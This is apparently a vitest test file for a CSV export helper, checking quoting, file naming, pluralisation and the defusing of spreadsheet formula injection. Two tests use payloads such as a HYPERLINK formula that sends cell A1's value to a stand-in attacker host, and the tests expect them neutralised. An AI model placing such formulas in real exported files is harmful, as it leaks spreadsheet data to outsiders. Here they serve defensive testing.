import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvFileName, recordsToCsv } from './records-csv';
import { collectionNouns, pluralize } from './collection-nouns';

describe('recordsToCsv', () => {
  it('writes a header of column names and one line per row, quoting what needs it', () => {
    const csv = recordsToCsv(
      ['title', 'done', 'budget', 'tags', 'notes'],
      [
        { title: 'Launch, phase "1"', done: true, budget: 12.5, tags: ['a', 'b'], notes: 'line 1\nline 2' },
        { title: 'Empty', done: false, budget: null, tags: null },
      ],
    );
    expect(csv).toBe(
      'title,done,budget,tags,notes\r\n' +
        '"Launch, phase ""1""",true,12.5,"[""a"",""b""]","line 1\nline 2"\r\n' +
        'Empty,false,,,',
    );
    // it reads back to the same cells
    expect(Papa.parse<string[]>(csv).data[1]).toEqual([
      'Launch, phase "1"',
      'true',
      '12.5',
      '["a","b"]',
      'line 1\nline 2',
    ]);
  });

  it('defuses a formula whose value goes on past a line break', () => {
    const csv = recordsToCsv(
      ['v'],
      [{ v: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")\n' }, { v: '-1\r\n2' }],
    );
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true })
      .data.slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual([`'=HYPERLINK("http://evil.example/?leak="&A1,"Open")\n`, `'-1\r\n2`]);
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const csv = recordsToCsv(['v'], [{ v: '=HYPERLINK("http://evil")' }, { v: '+1' }, { v: '@SUM(A1)' }]);
    const cells = Papa.parse<string[]>(csv)
      .data.slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual([`'=HYPERLINK("http://evil")`, `'+1`, `'@SUM(A1)`]);
  });

  it('names the file after the collection and the day', () => {
    expect(csvFileName('projects', new Date('2025-01-05T12:00:00Z'))).toBe('projects-2025-01-05.csv');
    expect(csvCell({ a: 1 })).toBe('{"a":1}');
    expect(csvCell(undefined)).toBe('');
  });
});

describe('collectionNouns', () => {
  it('uses label_plural, else a regular English plural of the label', () => {
    expect(collectionNouns({ label: 'Project', label_plural: 'Portfolio' })).toEqual({
      noun: 'Project',
      plural: 'Portfolio',
    });
    expect(['Category', 'Box', 'Day', 'Task', 'Match'].map(pluralize)).toEqual([
      'Categories',
      'Boxes',
      'Days',
      'Tasks',
      'Matches',
    ]);
  });
});
